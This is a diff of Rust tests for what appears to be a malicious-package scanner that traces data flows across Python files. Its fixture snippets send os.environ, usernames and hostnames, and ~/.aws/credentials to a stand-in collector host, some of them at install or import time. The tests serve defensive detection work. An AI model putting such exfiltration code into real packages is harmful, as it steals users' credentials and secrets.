@@ -456,3 +456,200 @@ fn pdm_backends_local_build_hook_runs_at_install() {
     let contexts = evidence_field(&report, "pdm_build.py", "context");
     assert!(contexts.iter().all(|c| c == "install"), "{report}");
 }
+
+/// The `flows` text of the reported file whose path ends with `suffix`.
+fn flows_of(report: &Value, suffix: &str) -> String {
+    report["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"].as_str().unwrap().ends_with(suffix))
+        .map(|f| f["flows"].as_str().unwrap_or_default().to_owned())
+        .unwrap_or_default()
+}
+
+#[test]
+fn data_a_sibling_function_returns_flows_into_the_importers_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/facts.py",
+                "import getpass, socket\n\ndef machine():\n    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import requests\nfrom .facts import machine\nrequests.post('https://collector.example.invalid/u', json=machine())\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let flows = flows_of(&report, "pkg/__init__.py");
+    assert!(flows.contains("returned by machine()"), "{flows}");
+    assert!(flows.contains("pkg/facts.py:4"), "{flows}");
+}
+
+#[test]
+fn data_passed_to_a_sibling_function_while_installing_flows_to_its_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "setup.py",
+                "import os\nfrom setuptools import setup\nimport helper\nhelper.send(dict(os.environ))\nsetup(name='pkg')\n",
+            ),
+            (
+                "helper.py",
+                "import requests\n\ndef send(payload):\n    requests.post('https://collector.example.invalid/u', json=payload)\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let flows = flows_of(&report, "helper.py");
+    assert!(flows.contains("passed to send() at setup.py:4"), "{flows}");
+}
+
+#[test]
+fn data_passed_to_a_sibling_function_that_only_keeps_it_is_no_flow() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/__init__.py",
+                "import os\nfrom ._config import configure\nconfigure(os.environ.get('PKG_API_TOKEN'))\n",
+            ),
+            (
+                "pkg/_config.py",
+                "_settings = {}\n\ndef configure(token):\n    _settings['token'] = token\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "benign", "{report}");
+}
+
+#[test]
+fn a_function_of_the_same_name_in_another_sibling_receives_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/__init__.py",
+                "import os\nfrom . import _config\nfrom . import _net\n_config.use(dict(os.environ))\n",
+            ),
+            (
+                "pkg/_config.py",
+                "def use(values):\n    return len(values)\n",
+            ),
+            (
+                "pkg/_net.py",
+                "import requests\n\ndef use(payload):\n    requests.post('https://collector.example.invalid/u', json=payload)\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    let flows = flows_of(&report, "pkg/_net.py");
+    assert!(!flows.contains("passed to use()"), "{flows}");
+}
+
+#[test]
+fn data_returned_through_an_imported_submodule_flows_into_the_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/facts.py",
+                "import getpass, socket\n\ndef machine():\n    return {'u': getpass.getuser(), 'h': socket.gethostname()}\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import requests\nfrom . import facts\nrequests.post('https://collector.example.invalid/u', json=facts.machine())\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    assert!(flows_of(&report, "pkg/__init__.py").contains("returned by machine()"));
+}
+
+#[test]
+fn a_sibling_returning_the_users_name_for_a_log_line_is_no_flow() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/_who.py",
+                "import getpass\n\ndef user():\n    return getpass.getuser()\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import logging\nfrom . import _who\nlogging.getLogger(__name__).debug('loaded for %s', _who.user())\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "benign", "{report}");
+}
+
+#[test]
+fn data_a_method_of_an_imported_class_returns_flows_into_the_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/_grab.py",
+                "import os\n\nclass Grabber:\n    def collect(self):\n        with open(os.path.expanduser('~/.aws/credentials')) as fh:\n            return fh.read()\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import requests\nfrom ._grab import Grabber\ng = Grabber()\nrequests.post('https://collector.example.invalid/u', data=g.collect())\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let flows = flows_of(&report, "pkg/__init__.py");
+    assert!(flows.contains("returned by Grabber().collect()"), "{flows}");
+}
+
+#[test]
+fn a_helper_returning_what_one_caller_passed_is_no_source_for_the_others() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/utils.py",
+                "def relative(path):\n    return path.lstrip('/')\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "import os\nfrom .utils import relative\nHERE = relative(os.getcwd())\n",
+            ),
+            (
+                "pkg/fetch.py",
+                "import urllib.request\nfrom .utils import relative\n\ndef get(url):\n    return urllib.request.urlopen(relative(url)).read()\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    let flows = flows_of(&report, "pkg/fetch.py");
+    assert!(!flows.contains("passed to relative()"), "{flows}");
+}
